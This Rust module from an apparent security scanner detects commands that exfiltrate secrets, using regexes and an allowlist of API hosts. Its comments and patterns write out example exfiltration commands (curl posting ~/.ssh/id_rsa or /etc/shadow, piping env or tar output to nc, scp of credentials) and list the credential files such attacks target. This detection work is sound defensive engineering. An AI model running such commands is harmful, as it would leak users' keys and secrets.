//! `exfil_command`: a command that sends a sensitive file or the environment somewhere.
//!
//! Two shapes. Self-contained: the sending command names what it sends — `curl -d @~/.ssh/id_rsa`,
//! `-F f=@/etc/shadow`, `--upload-file ~/.aws/credentials`, `wget --post-file=…`,
//! `"$(cat ~/.ssh/id_rsa | base64)"`, `$(env)`, `nc host port < ~/.netrc`, PowerShell
//! `Invoke-WebRequest -InFile …` / `-Body (Get-Content …)`. Piped: a command that reads its
//! standard input (`nc host port`, `curl -d @- …`, `curl -T - …`, `socat - TCP:…`) fed by a
//! pipeline whose source is a sensitive file or the environment (`tar cz ~/.ssh | nc …`,
//! `env | curl -d @- …`); the check reads that source in the line before the command. By name:
//! a download carrying `$OPENAI_API_KEY`-like variables to a URL that is not an API host.
//! Copied to a remote host: `scp ~/.ssh/id_rsa user@host:…`, `rsync -a ~/.aws/ host:…`.
//!
//! Sensitive: private SSH keys and the `.ssh` directory (not `.pub`, `known_hosts`), cloud and
//! tool credentials, dotenv files (not templates), shell histories, `/etc/shadow`,
//! `/etc/passwd`, `/etc/sudoers`, `/proc/*/environ`. A project file (`-d @payload.json`) is not.

use std::sync::OnceLock;

use regex::bytes::Regex;

use super::rule::MatchContext;

/// A sensitive file: optional directories (`~/`, `$HOME/`, `/root/`, `C:\Users\u\`), then the
/// name, then the end of the word.
macro_rules! sensitive_path {
    () => {
        r#"(?:[^\s'"|;&<>()@/\\`]{0,64}[/\\]){0,8}(?:\.ssh(?:[/\\](?:id_[A-Za-z0-9_]{1,24}|[A-Za-z0-9_-]{1,40}\.(?:pem|key)))?|\.aws(?:[/\\](?:credentials|config))?|\.gnupg|\.kube(?:[/\\]config)?|[._]netrc|\.git-credentials|\.env(?:\.(?:local|production|prod|development|dev|staging))?|\.docker[/\\]config\.json|\.npmrc|\.pypirc|\.(?:bash|zsh|sh|python|mysql|psql)_history|\.config[/\\]gcloud[/\\][A-Za-z0-9_.-]{1,64}|\.picoclaw[/\\][A-Za-z0-9_.-]{1,40}|etc[/\\](?:g?shadow|passwd|sudoers|master\.passwd)|proc[/\\](?:self|[0-9]{1,8})[/\\]environ)[/\\]?(?:[\s'"|;&<>()`,]|\z)"#
    };
}

/// The environment as a whole: `env`, `printenv`, `set`, `export -p`, PowerShell `env:`.
macro_rules! environment {
    () => {
        r#"(?:env|printenv|set|export[ \t]{1,4}-p|(?i:gci|get-childitem|dir|ls)[ \t]{1,4}env:)"#
    };
}

/// The sending command names what it sends.
macro_rules! self_contained {
    () => {
        concat!(
            r#"(?:(?:curl|wget)(?:\.exe)?[ \t](?:[^\n;&|`]|\\\r?\n){0,300}?(?:(?:-[A-Za-z]{0,8}[dF]|--data(?:-binary|-raw|-ascii)?|--form|--json)[ \t=]{0,4}["']?(?:[A-Za-z0-9_.\[\]-]{1,40}=)?[@<]|--data-urlencode[ \t=]{1,4}["']?[A-Za-z0-9_.-]{0,40}@|(?:-[A-Za-z]{0,8}T|--upload-file|--post-file|--body-file)[ \t=]{0,4}["']?|\$\(<[ \t]{0,4}|(?:\$\(|`)[ \t]{0,4}(?:cat|base64|xxd|gzip|tar|head|tail|od|gpg|openssl[ \t]{1,4}(?:base64|enc))[ \t][^)`\n]{0,80}?)"#,
            $crate::scan::exfil_command::sensitive_path!(),
            r#"|(?:curl|wget)(?:\.exe)?[ \t](?:[^\n;&|`]|\\\r?\n){0,300}?(?:\$\(|`)[ \t]{0,4}"#,
            $crate::scan::exfil_command::environment!(),
            r#"[ \t]{0,4}[|)`]|(?:curl|wget|nc|ncat|netcat|socat)(?:\.exe|\.traditional|\.openbsd)?[ \t][^\n;&|<]{0,200}?<[ \t]{0,4}"#,
            $crate::scan::exfil_command::sensitive_path!(),
            r#"|(?i:invoke-webrequest|invoke-restmethod|iwr|irm)[ \t][^\n|;]{0,300}?(?:(?i:-infile)[ \t]{1,4}["']?|(?i:-body)[ \t]{1,4}\(?[ \t]{0,4}(?:(?i:get-content|gc|cat|type)[ \t]{1,4}(?:(?i:-path|-raw)[ \t]{1,4})?["']?|\[(?:System\.)?IO\.File\]::Read[A-Za-z]{1,20}\([ \t]{0,4}["']?))"#,
            $crate::scan::exfil_command::sensitive_path!(),
            r#"|(?i:invoke-webrequest|invoke-restmethod|iwr|irm)[ \t][^\n|;]{0,300}?(?i:-body)[ \t]{1,4}\(?[ \t]{0,4}(?i:gci|get-childitem|dir|ls)[ \t]{1,4}env:"#,
            r#"|(?:scp|rsync)(?:\.exe)?[ \t][^\n;&|<>`]{0,200}?"#,
            $crate::scan::exfil_command::sensitive_path!(),
            r#"(?:[^\n;&|<>`]{0,200}?[ \t])?(?:[A-Za-z0-9._-]{1,64}@)?[A-Za-z0-9][A-Za-z0-9.-]{0,252}:)"#
        )
    };
}

/// A download that carries a secret by its variable name (`-d "key=$OPENAI_API_KEY"`,
/// `-H "X: ${ANTHROPIC_API_KEY}"`, `?t=$GITHUB_TOKEN`), to the end of the command: the check
/// reads the URLs it names.
macro_rules! secret_variable {
    () => {
        r#"(?:curl|wget)(?:\.exe)?[ \t](?:[^\n;&|`]|\\\r?\n){0,300}?\$\{?[A-Z0-9_]{0,40}(?:API_?KEY|_TOKEN|_SECRET|SECRET_?ACCESS_?KEY|SECRET_?KEY|_PASSWORD|_PAT|PRIVATE_?KEY)(?:\}|[^A-Za-z0-9_\n;&|`]|\z)(?:[^\n;&|`]|\\\r?\n){0,300}"#
    };
}

/// A sending command that reads its standard input; the check looks for what feeds it.
macro_rules! stdin_sink {
    () => {
        r#"(?:nc|ncat|netcat)(?:\.exe|\.traditional|\.openbsd)?[ \t](?:[ \t]{0,8}-[A-Za-z]{1,8}){0,4}[ \t]{0,8}[A-Za-z0-9.:_\[\]-]{1,253}[ \t]{1,8}[0-9]{1,5}|(?:curl|wget)[ \t][^\n;&|]{0,300}?(?:@-|(?:-[A-Za-z]{0,8}T|--upload-file)[ \t=]{1,4}-)(?:[\s'"]|\z)|socat[ \t]{1,8}-[ \t]{1,8}(?i:tcp|udp|openssl)[46]?(?:-connect)?:"#
    };
}

pub(crate) use {environment, secret_variable, self_contained, sensitive_path, stdin_sink};

fn self_contained_re() -> &'static Regex {
    static RE: OnceLock<Regex> = OnceLock::new();
    RE.get_or_init(|| {
        Regex::new(concat!("(?-u)^(?:", self_contained!(), ")"))
            .unwrap_or_else(|e| panic!("exfil_command: {e}"))
    })
}

/// The end of a line that pipes a sensitive file or the environment into the next command,
/// with up to two filters between (`tar cz ~/.ssh | base64 | `).
fn piped_source_re() -> &'static Regex {
    static RE: OnceLock<Regex> = OnceLock::new();
    RE.get_or_init(|| {
        Regex::new(concat!(
            r#"(?-u)(?:^|[\s;&("'`])(?:(?:cat|tar|zip|base64|gzip|xxd|gpg|type|(?i:get-content)|gc|openssl)[ \t][^|\n]{0,120}?"#,
            sensitive_path!(),
            r#"[^|\n]{0,120}|"#,
            environment!(),
            r#"[ \t]{0,8})\|[ \t]{0,8}(?:[A-Za-z0-9_./-]{1,32}(?:[ \t]{1,4}[^|\n]{0,40})?\|[ \t]{0,8}){0,2}$"#
        ))
        .unwrap_or_else(|e| panic!("exfil_command: {e}"))
    })
}

fn secret_variable_re() -> &'static Regex {
    static RE: OnceLock<Regex> = OnceLock::new();
    RE.get_or_init(|| {
        Regex::new(concat!("(?-u)^(?:", secret_variable!(), ")"))
            .unwrap_or_else(|e| panic!("exfil_command: {e}"))
    })
}

/// Hosts (and their subdomains) that API keys are sent to by their own clients' documented
/// `curl` examples (`-H "Authorization: Bearer $OPENAI_API_KEY" https://api.openai.com/…`),
/// and loopback: a secret variable sent there is use, not exfiltration.
const KEY_USE_HOSTS: &[&str] = &[
    "openai.com",
    "anthropic.com",
    "googleapis.com",
    "github.com",
    "githubusercontent.com",
    "gitlab.com",
    "x.ai",
    "groq.com",
    "mistral.ai",
    "cohere.ai",
    "cohere.com",
    "deepseek.com",
    "together.xyz",
    "together.ai",
    "perplexity.ai",
    "replicate.com",
    "openrouter.ai",
    "huggingface.co",
    "amazonaws.com",
    "azure.com",
    "stripe.com",
    "sendgrid.com",
    "twilio.com",
    "slack.com",
    "telegram.org",
    "discord.com",
    "digitalocean.com",
    "npmjs.org",
    "pypi.org",
    "docker.io",
    "docker.com",
    "crates.io",
    "localhost",
    "127.0.0.1",
    "[::1]",
];

/// Whether a command names a URL (`http://`, `https://`) whose host is not one a key is used
/// with. A command without a literal URL (`"$API_URL/items"`) names no destination.
fn names_foreign_url(command: &[u8]) -> bool {
    memchr::memmem::find_iter(command, b"://").any(|at| {
        let scheme = &command[..at];
        let web = scheme.ends_with(b"http") || scheme.ends_with(b"https");
        let rest = &command[at + 3..];
        let end = rest
            .iter()
            .position(|b| matches!(b, b'/' | b'?' | b'#' | b'"' | b'\'' | b' ' | b'\t' | b'\\'))
            .unwrap_or(rest.len());
        let authority = &rest[..end];
        let host = authority.rsplit(|&b| b == b'@').next().unwrap_or(b"");
        let host = match host.first() {
            Some(b'[') => host,
            _ => host.split(|&b| b == b':').next().unwrap_or(b""),
        };
        web && !host.is_empty() && !KEY_USE_HOSTS.iter().any(|known| within(host, known))
    })
}

/// `host` is `domain` or a subdomain of it, in any case.
fn within(host: &[u8], domain: &str) -> bool {
    let domain = domain.as_bytes();
    let host = host.strip_suffix(b".").unwrap_or(host);
    host.len() >= domain.len()
        && host[host.len() - domain.len()..].eq_ignore_ascii_case(domain)
        && (host.len() == domain.len() || host[host.len() - domain.len() - 1] == b'.')
}

/// Self-contained shapes stand on their own; a secret variable counts when the command sends
/// it to a foreign URL; a standard-input sink needs a sensitive source piped into it on the
/// same line.
pub(crate) fn check(ctx: &MatchContext<'_>) -> bool {
    if self_contained_re().is_match(ctx.matched) {
        return true;
    }
    if secret_variable_re().is_match(ctx.matched) && names_foreign_url(ctx.matched) {
        return true;
    }
    let line_start = memchr::memrchr(b'\n', ctx.before).map_or(0, |i| i + 1);
    piped_source_re().is_match(&ctx.before[line_start..])
}
